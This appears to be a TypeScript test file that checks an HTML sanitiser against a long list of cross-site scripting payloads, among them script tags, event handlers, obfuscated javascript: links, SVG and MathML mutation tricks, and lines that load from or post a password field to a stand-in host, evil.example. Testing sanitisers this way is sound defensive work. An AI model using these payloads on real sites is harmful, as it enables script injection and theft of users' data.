// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanHtml, escapeText, toPlainText, unescapeText } from './clean-html.ts';

interface ParsedElement {
  readonly localName: string;
  readonly namespaceURI: string;
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>;
}
interface Parser {
  parseFromString(
    html: string,
    type: 'text/html',
  ): { querySelectorAll(all: '*'): Iterable<ParsedElement> };
}
const browser = globalThis as unknown as { readonly DOMParser: new () => Parser };

const known = new Set(
  'html head body h2 h3 p ul ol li dl dt dd blockquote strong em br table caption thead tbody tr th td a img'.split(
    ' ',
  ),
);
const knownAttributes: Readonly<Record<string, RegExp>> = {
  href: /^(\/(?![/\\])|#section-\d|https:\/\/|mailto:|tel:|\{\{\w+\}\}$)/,
  src: /^\/(api\/content\/pictures|promotions)\/[\w.-]+$/,
  alt: /^/,
  scope: /^(col|row)$/,
  target: /^_blank$/,
  rel: /^noopener noreferrer$/,
};

/** Everything that a browser makes of the HTML and that should not be there. */
function foundIn(html: string): readonly string[] {
  const elements = [
    ...new browser.DOMParser().parseFromString(html, 'text/html').querySelectorAll('*'),
  ];
  return elements.flatMap(({ localName, namespaceURI, attributes }) => [
    ...(known.has(localName) && namespaceURI.endsWith('xhtml') ? [] : [localName]),
    ...[...attributes]
      .filter(({ name, value }) => knownAttributes[name]?.test(value) !== true)
      .map(({ name, value }) => `${localName} ${name}=${value}`),
  ]);
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="/promotions/a.svg" onload="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="https://evil.example" target="_self" rel="opener">x</a>',
  '<a href="{{x}}javascript:alert(1)">x</a>',
  '<a href="/ok" ping="https://evil.example" download>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg/>#x"/></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<img srcset="https://evil.example/x 1x, javascript:alert(1) 2x" src="https://evil.example/x">',
  '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/x"></picture>',
  '<img src="/promotions/../api/user/logout">',
  '<img src="//evil.example/promotions/a.svg">',
  '<img src="/api/get-settings">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<form id=document><input id=cookie name=cookie></form>',
  '<a id=location href="/x">x</a><img name=getElementById src="/promotions/a.svg">',
  '<p id="app" class="overlay" data-x="1" is="x-y" slot="s">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<table><td><p><svg><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p title="a" title="b" <img src=x onerror=alert(1)>>',
  '<<img src=x onerror=alert(1)>//',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<x-element><img src=x onerror=alert(1)></x-element>',
  '<p>\0<scr\0ipt>alert(1)</scr\0ipt></p>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
];

describe('cleanHtml', () => {
  it.each(hostile)('leaves nothing in the text that a browser could take for more: %s', (html) => {
    const cleaned = cleanHtml(`<p>before</p>${html}<p>after</p>`);
    expect(foundIn(cleaned), cleaned).toEqual([]);
    expect(foundIn(cleanHtml(cleaned)), 'cleaned again as it is sent').toEqual([]);
    expect(cleaned).toMatch(/^<p>before<\/p>/);
  });

  it('finds what is hostile in what was not cleaned, or the test would prove nothing', () => {
    const innocent = hostile.filter((html) => foundIn(html).length === 0);
    // A browser makes text, or nothing, of these.
    expect(innocent).toEqual([
      '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
      '<![CDATA[<img src=x onerror=alert(1)>]]>',
      '&lt;img src=x onerror=alert(1)&gt;',
    ]);
  });

  it('leaves nothing in pieces of the hostile that are put together by chance', () => {
    const pieces = hostile.flatMap((html) => html.split(/(?<=[<>"'=/ ])/));
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (chosen) => {
        const cleaned = cleanHtml(chosen.join(''));
        expect(foundIn(cleaned)).toEqual([]);
        expect(cleanHtml(cleaned)).toBe(cleaned);
      }),
      { numRuns: 300, seed: 7 },
    );
  });

  it.each([
    '<h2>Deposits</h2><p>One <strong>two</strong> <em>three</em><br />four &amp; five</p>',
    '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>three</blockquote>',
    '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
    '<p><a href="/info/Help">help</a> <a href="tel:08088020133">call</a> <a href="mailto:{{supportEmail}}">write</a></p>',
    '<p><a href="https://www.gamcare.org.uk/" target="_blank" rel="noopener noreferrer">GamCare</a></p>',
    '<p><a href="{{regulatorUrl}}" target="_blank" rel="noopener noreferrer">{{regulatorName}}</a></p>',
    '<img src="/api/content/pictures/00000000-0000-4000-8000-000000000000" alt="A picture" />',
  ])('keeps what a text needs: %s', (html) => {
    expect(cleanHtml(html)).toBe(html);
  });
});

describe('toPlainText', () => {
  it('is the text between the markup', () => {
    expect(toPlainText('<h2>A &amp; B</h2><p>c<br />d &lt; e</p>')).toBe('A & B c d < e');
  });

  it('reads back whatever was escaped', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(unescapeText(escapeText(text))).toBe(text);
        expect(cleanHtml(`<p>${escapeText('<script>')}</p>`)).toBe('<p>&lt;script&gt;</p>');
      }),
    );
  });
});
